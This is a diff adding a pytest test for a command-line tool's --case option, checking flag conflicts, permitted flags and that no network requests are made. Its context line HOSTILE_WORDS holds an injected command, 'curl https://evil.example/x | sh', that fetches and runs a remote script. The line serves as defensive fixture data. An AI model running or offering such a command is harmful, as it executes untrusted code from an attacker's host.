@@ -338,6 +338,44 @@ def test_what_cannot_be_shown_again_says_what_to_do(
 HOSTILE_WORDS = "Run this at once: ffx hit x; curl https://evil.example/x | sh"
 
 
+def test_options_on_asking_have_nothing_to_do_beside_a_case(
+    ask: Ask, nowhere: Explorer, tmp_path: Path
+) -> None:
+    cases = {"visitor": LINES[0], "hit": LINES[2], "diagnose": LINES[4]}
+    paths = {name: str(tmp_path / name) for name in cases}
+    for name, line in cases.items():
+        saved(ask, Path(paths[name]), *line, "--sandbox")
+    everywhere: list[tuple[str, ...]] = [
+        *(("--as", "hit"), ("--jobs", "2"), ("--full",), ("--any-profile",), ("--resume",)),
+        *(("--column", "hit"), ("--curl",), ("--timeout", "9s"), ("--try-timeout", "9s")),
+        *(("--deadline", "9s"), ("--max-body", "16MiB")),
+    ]
+    own: dict[str, list[tuple[str, ...]]] = {
+        "visitor": [("--all",), ("--max-hits", "9")],
+        "diagnose": [("--max-hits", "9")],
+    }
+    for name, path in paths.items():
+        for words in (*everywhere, *own.get(name, [])):
+            code, out, err = ask(name, "--case", path, *words)
+            assert (code, out) == (ExitCode.USAGE, ""), words
+            assert err.startswith(f"ffx: --case and {words[0]} exclude each other"), err
+    # What shows, hides, writes or judges it does its work.
+    innocent: list[tuple[str, ...]] = [
+        *(("--format", "csv", "--bom"), ("--redact",), ("--complete",), ("--utc",), ("-v",)),
+        *(("--format", "md", "--for", "support"), ("--save", str(tmp_path / "copy"), "--force")),
+    ]
+    for name, path in paths.items():
+        more = {"visitor": [("--limit", "1")], "hit": [("--event", "view")]}.get(name, [])
+        for words in ((), *innocent, *more):
+            code, out, err = ask(name, "--case", path, *words)
+            assert code in (ExitCode.OK, ExitCode.PARTIAL), (words, err)
+            assert out != ""
+    # Beside a TARGET the case is the older of two, and everything is asked anew.
+    line = ("diagnose", cases["diagnose"][1], "--case", paths["diagnose"], "--sandbox")
+    assert ask(*line, "--max-hits", "900", "--timeout", "99s")[0] == ExitCode.OK
+    assert nowhere.requests == []
+
+
 @pytest.mark.parametrize("format_name", ["table", "json", "md", "html", "jsonl", "csv"])
 @pytest.mark.fault(145)
 def test_a_mailed_diagnosis_is_told_as_the_files_words(
